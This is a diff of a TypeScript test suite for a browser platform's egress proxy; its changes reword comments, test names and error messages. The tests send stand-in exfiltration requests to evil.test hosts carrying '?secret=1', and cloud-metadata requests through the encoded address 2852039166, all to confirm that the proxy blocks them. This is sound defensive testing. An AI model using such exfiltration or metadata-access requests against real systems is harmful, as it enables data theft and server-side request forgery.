@@ -1,4 +1,4 @@
-/** A real browser behind its proxy: every way out of a page leads to the rules, or nowhere. */
+/** A real browser behind its proxy: every connection of a page passes the rules or fails. */
 
 import { afterAll, beforeAll, expect, test } from "bun:test";
 import { createSocket, type Socket as UdpSocket } from "node:dgram";
@@ -21,7 +21,7 @@ import { until } from "../../support/until.ts";
 import { served, type TestPlatform } from "../served.ts";
 import { SELF_SIGNED } from "./self-signed.ts";
 
-/** Stands for the world: pages, a redirect to anywhere, a service worker that fetches. */
+/** The test site: pages, a redirect to any URL, a service worker that fetches. */
 let site: Bun.Server<undefined>;
 
 beforeAll(() => {
@@ -61,7 +61,7 @@ const ASKED: BrowserRequest = {
   settings: SETTINGS,
 };
 
-/** A page of a browser that was started as the platform starts one; `isWarm`: in advance, for nobody yet. */
+/** A page of a browser started as the platform does; `isWarm` means without an owner. */
 async function page({ isWarm = false, ...setup }: Partial<NetworkSetup> & { isWarm?: boolean } = {}) {
   const { path: home, [Symbol.dispose]: remove } = temporaryFolder();
   const net = network({
@@ -90,7 +90,7 @@ async function page({ isWarm = false, ...setup }: Partial<NetworkSetup> & { isWa
   await session.send("Page.setLifecycleEventsEnabled", { enabled: true });
   return {
     net,
-    /** Gives it to somebody who asked for that. */
+    /** Assigns the browser with these settings. */
     give: async (settings: Partial<BrowserSettings>) =>
       await net.assigned?.({
         ...ASKED,
@@ -110,7 +110,7 @@ async function page({ isWarm = false, ...setup }: Partial<NetworkSetup> & { isWa
     },
     /** The error of the navigation, or the text of the page. */
     async open(url: string): Promise<string> {
-      // The page of an earlier error may still load: only the document of this navigation counts.
+      // An earlier error page may still load: only the document of this navigation counts.
       const loaded: string[] = [];
       const { promise, resolve } = Promise.withResolvers<void>();
       let document: string | undefined;
@@ -134,7 +134,7 @@ async function page({ isWarm = false, ...setup }: Partial<NetworkSetup> & { isWa
   };
 }
 
-/** Tries each way out of a page to `address(way)`, and resolves when all have failed or come through. */
+/** Tries each kind of connection to `address(way)`; resolves when all have finished. */
 const WAYS = `
   const settled = (make) => new Promise((resolve) => make(() => resolve("done"), () => resolve("open")));
   const element = (tag, set) => settled((failed, done) => {
@@ -158,7 +158,7 @@ const WAYS = `
     popup: async (to) => { window.open(to); },
   };`;
 
-test("every way out of a page leads to the rules, by a name that is resolved by us alone", async () => {
+test("every connection of a page passes the rules, with names resolved by the proxy only", async () => {
   const asked = new Set<string>();
   await using p = await page({
     lookup: async (name) => {
@@ -169,29 +169,29 @@ test("every way out of a page leads to the rules, by a name that is resolved by 
   const { port } = site;
   expect(await p.open(`http://site.test:${port}/`)).toBe("hello");
   const tried = await p.run<Record<string, string>>(`${WAYS}
-    // Chrome is free to leave these out.
+    // Chrome may skip these.
     for (const rel of ["dns-prefetch", "preconnect", "prefetch"])
       Object.assign(document.head.appendChild(document.createElement("link")), { rel, href: "http://" + rel + ".evil.test/" });
     const found = {};
     for (const [name, way] of Object.entries(ways)) found[name] = await way("http://" + name + ".evil.test/x?secret=1");
     return found;`);
   const quiet = ["beacon", "ping", "popup"];
-  // What tells its page nothing is on its way still.
+  // Requests without a result in the page may still be running.
   await until(() => quiet.every((name) => asked.has(name)));
-  // A frame shows the words of the refusal, of which the page sees nothing.
+  // A frame shows the message of the refusal, which the page cannot read.
   const { frame, ...others } = tried;
   expect(frame).toBe("open");
   for (const [name, how] of Object.entries(others))
     expect([name, how === "open" && name !== "fetch"]).toEqual([name, false]);
   for (const name of Object.keys(tried)) expect(asked).toContain(name);
   expect(await p.open(`http://site.test:${port}/go?to=http://redirect.evil.test/`)).toContain("link-local");
-  expect(await p.open("http://2852039166/latest/meta-data/")).toContain("169.254.169.254:80 is not to be reached");
+  expect(await p.open("http://2852039166/latest/meta-data/")).toContain("169.254.169.254:80 is not allowed");
   expect(await p.open("https://secure.evil.test/")).toContain("ERR_TUNNEL_CONNECTION_FAILED");
   expect(asked).toContain("redirect");
   expect(p.net.denials.get("link-local")).toBeGreaterThan(Object.keys(tried).length);
 });
 
-test("a service worker keeps to the rules, and no datagram goes past them", async () => {
+test("rules apply to service workers, and no UDP leaves the browser", async () => {
   let datagrams = 0;
   const udp: UdpSocket = createSocket("udp4", () => datagrams++);
   await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
@@ -208,7 +208,7 @@ test("a service worker keeps to the rules, and no datagram goes past them", asyn
     const { active, installing, waiting } = await navigator.serviceWorker.register("/worker.js");
     (active ?? installing ?? waiting).postMessage("http://worker.evil.test/");
     await heard;`);
-  // A whole Chrome has some hosts of its own.
+  // A full Chrome contacts some hosts of its own.
   expect(asked.filter((name) => name.endsWith(".test"))).toEqual(["worker.evil.test"]);
   const transport = await p.run<string>(
     `return await new WebTransport("https://127.0.0.1:${udp.address().port}/").ready.then(() => "open", (error) => error.name);`,
@@ -217,7 +217,7 @@ test("a service worker keeps to the rules, and no datagram goes past them", asyn
   udp.close();
 });
 
-test("this machine is reached through the proxy alone, and not at all where private ranges are closed", async () => {
+test("loopback is reached through the proxy only, and is closed if private addresses are", async () => {
   let visits = 0;
   const canary: Server = createServer((socket) => {
     visits++;
@@ -258,10 +258,10 @@ test("this machine is reached through the proxy alone, and not at all where priv
   udp.close();
 });
 
-/** What a browser of the platform shows at that address. */
+/** The text that a browser of the platform shows at that URL. */
 async function read(p: TestPlatform, body: object, url: string): Promise<{ id: string; text: string }> {
   const { id, cdpUrl } = await p.browser(body);
-  // Without whatever stands before it by its public address.
+  // Connects directly, not through the public URL.
   const address = cdpUrl.replace(/^wss?:\/\/[^/]+/, p.url.replace(/^http/, "ws"));
   const connection = new Connection(await attachTo(address, AbortSignal.timeout(10_000)));
   const { targetId } = await connection.root.send("Target.createTarget", { url: "about:blank" });
@@ -276,7 +276,7 @@ async function read(p: TestPlatform, body: object, url: string): Promise<{ id: s
   return { id, text: String(result.value).trim() };
 }
 
-test("a platform of this machine alone opens it to browsers, but for its own port; one that others reach does not", async () => {
+test("a loopback server opens loopback to browsers except its own port; a public one does not", async () => {
   const here = `http://127.0.0.1:${site.port}/`;
   {
     await using p = await served();
@@ -287,7 +287,7 @@ test("a platform of this machine alone opens it to browsers, but for its own por
   expect((await read(p, {}, here)).text).toContain("allow_private_network is off");
 });
 
-test("a browser of the platform goes out through its proxy, is told what fails, and is charged what the proxy carried", async () => {
+test("a browser uses its proxy, shows its errors, and is charged for its traffic", async () => {
   const asked: string[] = [];
   const world = createServer((socket) => {
     socket.on("error", () => {});
@@ -312,15 +312,15 @@ test("a browser of the platform goes out through its proxy, is told what fails, 
   expect(own.text).toStartWith("far away");
   expect(Number(own.proxyUsedMb)).toBeGreaterThan(0.18);
   expect((await visit({ proxyCountryCode: "de" })).text).toBe(
-    "the proxy of this browser cannot be used: it does not take the user name and password",
+    "connecting through the proxy of this browser failed: it rejects the user name and password",
   );
   expect(asked).toEqual(["GET http://far.example/ HTTP/1.1", "GET http://far.example/ HTTP/1.1"]);
   expect(await p.call("POST", "/v3/browsers", { proxyCountryCode: "fr" })).toMatchObject({
     status: 422,
     body: {
-      // As every 422: clients read it as a list.
+      // A list, like every 422.
       detail: [{ loc: ["body", "proxyCountryCode"], msg: "This server has no proxy in the country 'fr'" }],
-      hint: "It has de.",
+      hint: "Use one of de.",
     },
   });
   const metadata = { customProxy: { host: "socks5://2852039166", port: 80 } };
@@ -330,7 +330,7 @@ test("a browser of the platform goes out through its proxy, is told what fails, 
       detail: [
         {
           loc: ["body", "customProxy", "host"],
-          msg: expect.stringContaining("169.254.169.254:80 is not to be reached"),
+          msg: expect.stringContaining("169.254.169.254:80 is not allowed"),
           type: "value_error",
         },
       ],
@@ -341,7 +341,7 @@ test("a browser of the platform goes out through its proxy, is told what fails, 
   world.close();
 });
 
-test("a browser that was started in advance has no network until it is given, and then the one that was asked for", async () => {
+test("a pool browser has no network until it is assigned, then the requested one", async () => {
   const secure = localServer({ tls: SELF_SIGNED, fetch: () => new Response("sealed") });
   const tunnels = createServer((socket) => {
     socket.on("error", () => {});
@@ -356,7 +356,7 @@ test("a browser that was started in advance has no network until it is given, an
   await new Promise<void>((resolve) => tunnels.listen(0, "127.0.0.1", resolve));
   const { port } = tunnels.address() as { port: number };
   await using p = await page({ isWarm: true });
-  expect(await p.open(`http://127.0.0.1:${site.port}/`)).toContain("has no network before it is given");
+  expect(await p.open(`http://127.0.0.1:${site.port}/`)).toContain("has no network before it is assigned");
   await p.give({ customProxy: { host: "127.0.0.1", port } });
   expect(await p.open("https://self-signed.test/")).toContain("ERR_CERT_AUTHORITY_INVALID");
   await p.give({ customProxy: { host: "127.0.0.1", port, ignoreCertErrors: true } });
@@ -365,7 +365,7 @@ test("a browser that was started in advance has no network until it is given, an
   await secure.stop(true);
 });
 
-test("a hundred workspaces leave nothing open, and what was carried is written down once, at the latest at the end", async () => {
+test("a hundred workspaces leave nothing open, and traffic is recorded exactly once", async () => {
   const written: number[] = [];
   let isFull = true;
   const net = network({
@@ -393,7 +393,7 @@ test("a hundred workspaces leave nothing open, and what was carried is written d
   expect(net.size).toBe(0);
   expect(ports.has(Number.NaN)).toBe(false);
   for (const port of ports) {
-    // A port is free in the next turn of the loop at the latest.
+    // The port is free after the next turn of the event loop.
     await until(async () => !(await isTaken(port)));
   }
   const workspace: BrowserWorkspace = { folder: "/workspace", userDataDir: "/workspace/profile", args: [] };
